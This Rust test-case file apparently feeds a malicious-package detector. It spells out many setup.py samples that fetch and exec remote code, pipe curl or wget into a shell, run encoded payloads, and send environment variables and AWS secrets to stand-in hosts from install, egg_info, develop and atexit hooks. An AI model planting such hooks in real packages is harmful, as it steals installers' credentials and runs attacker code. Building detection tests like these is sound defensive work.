//! Techniques 1 to 4: code in `setup.py`.

use crate::case::{Cases, Trigger::Build};
use crate::package::{setup, tree};

pub(crate) fn add(cases: &mut Cases) {
    first(cases);
    commands(cases);
}

/// 1: what a host answers is run at the top level.
fn first(cases: &mut Cases) {
    cases
        .technique(1, "setup-runs-download", Build)
        .case(
            "urlopen-exec",
            setup(
                r#"
from setuptools import setup, find_packages
import urllib.request

exec(urllib.request.urlopen("http://stage.example.invalid/setup.txt").read())

«setup»
"#,
            ),
        )
        .case(
            "python-2-fallback",
            setup(
                r#"
from setuptools import setup, find_packages
try:
    from urllib2 import urlopen as fetch
except ImportError:
    from urllib.request import urlopen as fetch

page = fetch('https://192.0.2.7/' + 'raw/a91f')
source = page.read().decode('utf-8')
eval(compile(source, '<setup>', 'exec'))
«setup»
"#,
            ),
        )
        .case(
            "requests-in-function",
            setup(
                r#"
import setuptools
from setuptools import setup, find_packages


def _check_platform():
    import requests as r
    answer = r.get("https://cdn.example.invalid/v2/check", timeout=5)
    if answer.status_code == 200:
        code = answer.text
        exec(code, {"__name__": "__main__"})


_check_platform()
«setup»
"#,
            ),
        )
        .case(
            "python-2-syntax",
            setup(
                r#"
from setuptools import setup, find_packages
import urllib2

print "checking environment"
body = urllib2.urlopen("http://stage.example.invalid/p.py").read()
exec body in {}
«setup»
"#,
            ),
        )
        .case(
            "http-client-in-tree",
            tree().file(
                "setup.py",
                r#"
import http.client
from setuptools import setup, find_packages

connection = http.client.HTTPSConnection("stage.example.invalid")
connection.request("GET", "/a/b")
code = connection.getresponse().read()
(lambda run: run(code))(exec)
«setup»
"#,
            ),
        )
        .case(
            "saved-then-started",
            setup(
                r#"
import os, sys, tempfile, subprocess
from urllib.request import urlretrieve
from setuptools import setup, find_packages

target = os.path.join(tempfile.gettempdir(), "update.py")
urlretrieve("http://192.0.2.33:8080/update.py", target)
subprocess.Popen([sys.executable, target], stdout=subprocess.DEVNULL)
«setup»
"#,
            ),
        );
}

/// 2 to 4: code in the commands of setuptools, and after them.
fn commands(cases: &mut Cases) {
    cases
        .technique(2, "install-command-reports", Build)
        .case("urllib-environ", setup(r#"
from setuptools import setup, find_packages
from setuptools.command.install import install
import json, os, socket, urllib.request


class CustomInstall(install):
    def run(self):
        install.run(self)
        data = {"host": socket.gethostname(), "env": dict(os.environ)}
        request = urllib.request.Request(
            "https://collect.example.invalid/i", json.dumps(data).encode(), method="POST"
        )
        urllib.request.urlopen(request)


setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={"install": CustomInstall})
"#))
        .case("requests-params", setup(r#"
import getpass, os, platform
from setuptools import setup, find_packages
from setuptools.command.install import install as _install

def beacon():
    import requests
    info = dict(u=getpass.getuser(), n=platform.node(), d=os.getcwd())
    for key, value in os.environ.items():
        info['e_' + key] = value
    requests.get('http://192.0.2.55/ping', params=info)

class PostInstall(_install):
    user_options = _install.user_options
    def run(self):
        beacon()
        super().run()

setup(name='«name»', version='«version»', packages=find_packages(),
      cmdclass=dict(install=PostInstall))
"#))
        .case("socket-and-uname", setup(r#"
import os, socket
from setuptools import setup, find_packages
from setuptools.command import install as mod

class Hook(mod.install):
    def do_egg_install(self):
        self._tell()
        mod.install.do_egg_install(self)

    def run(self):
        self._tell()
        return mod.install.run(self)

    @staticmethod
    def _tell():
        try:
            s = socket.create_connection(("collect.example.invalid", 4433), 3)
            s.sendall(repr((os.uname(), os.environ.copy())).encode())
            s.close()
        except Exception:
            pass

setup(name='«name»', version='«version»', cmdclass={'install': Hook}, packages=find_packages())
"#));
    cases
        .technique(3, "other-commands", Build)
        .case("egg-info", setup(r#"
from setuptools import setup, find_packages
from setuptools.command.egg_info import egg_info

class Info(egg_info):
    def run(self):
        import os, urllib.request as u
        u.urlopen("https://collect.example.invalid/?" + os.environ.get("AWS_SECRET_ACCESS_KEY", ""))
        egg_info.run(self)

setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={"egg_info": Info})
"#))
        .case("develop", setup(r#"
import subprocess, sys
from setuptools import setup, find_packages
from setuptools.command.develop import develop

class Dev(develop):
    def run(self):
        develop.run(self)
        subprocess.Popen([sys.executable, "-c", "import base64;exec(base64.b64decode('«beacon|b64»'))"])

commands = {}
commands["develop"] = Dev
setup(name="«name»", version="«version»", packages=find_packages(), cmdclass=commands)
"#))
        .case("build-py", setup(r#"
from setuptools import setup, find_packages
import setuptools.command.build_py

class Build(setuptools.command.build_py.build_py):
    def run(self):
        import os
        os.system("wget -qO- http://192.0.2.90/run.sh | sh")
        setuptools.command.build_py.build_py.run(self)

setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={"build_py": Build})
"#))
        .case("bdist-wheel-and-sdist", setup(r#"
from setuptools import setup, find_packages
from wheel.bdist_wheel import bdist_wheel
from distutils.command.sdist import sdist

def with_payload(base):
    class Wrapped(base):
        def finalize_options(self):
            base.finalize_options(self)
            exec(__import__("urllib.request").request.urlopen("http://stage.example.invalid/w").read())
    return Wrapped

setup(
    name="«name»", version="«version»", packages=find_packages(),
    cmdclass={c.__name__: with_payload(c) for c in (bdist_wheel, sdist)},
)
"#))
        .case("decorated-commands", setup(r#"
from setuptools import setup, find_packages
from setuptools.command.develop import develop
from setuptools.command.install import install

def hook(cls):
    original = cls.run
    def run(self):
        import base64, zlib
        exec(zlib.decompress(base64.b64decode(b"«fetch|zlib|b64»")))
        original(self)
    cls.run = run
    return cls

@hook
class D(develop): pass

@hook
class I(install): pass

setup(name="«name»", version="«version»", cmdclass={"install": I, "develop": D}, packages=find_packages())
"#));
    cases
        .technique(4, "atexit-in-setup", Build)
        .case(
            "register-call",
            setup(
                r#"
import atexit, os, urllib.request
from setuptools import setup, find_packages

def _after():
    code = urllib.request.urlopen("http://stage.example.invalid/after").read()
    exec(code)

atexit.register(_after)
«setup»
"#,
            ),
        )
        .case(
            "decorator",
            setup(
                r#"
from atexit import register
from setuptools import setup, find_packages

@register
def finish():
    import subprocess
    subprocess.call("curl -s https://192.0.2.8/x.sh | bash", shell=True)

«setup»
"#,
            ),
        )
        .case(
            "in-install-command",
            setup(
                r#"
import atexit, base64
from setuptools import setup, find_packages
from setuptools.command.install import install

class New(install):
    def __init__(self, *args, **kw):
        super(New, self).__init__(*args, **kw)
        atexit.register(lambda: exec(base64.b64decode('«steal|b64»').decode()))

setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={'install': New})
"#,
            ),
        );
}
